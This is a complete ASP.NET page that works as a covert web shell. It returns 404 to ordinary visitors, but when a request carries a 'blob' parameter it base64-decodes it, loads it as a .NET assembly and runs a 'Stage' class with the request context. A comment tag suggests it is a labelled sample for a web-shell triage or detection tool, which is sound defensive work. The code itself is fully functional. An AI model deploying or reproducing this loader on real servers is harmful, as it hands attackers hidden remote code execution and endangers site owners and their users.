<%@ Page Language="C#" %>
<%-- triage-expect: triage_aspx_assembly_load --%>
<script runat="server">
    void Page_Load(object sender, EventArgs e) {
        if (Request["blob"] == null) { Response.StatusCode = 404; return; }
        byte[] raw = Convert.FromBase64String(Request["blob"]);
        System.Reflection.Assembly asm = System.Reflection.Assembly.Load(raw);
        object o = asm.CreateInstance("Stage");
        o.Equals(Context);
    }
</script>
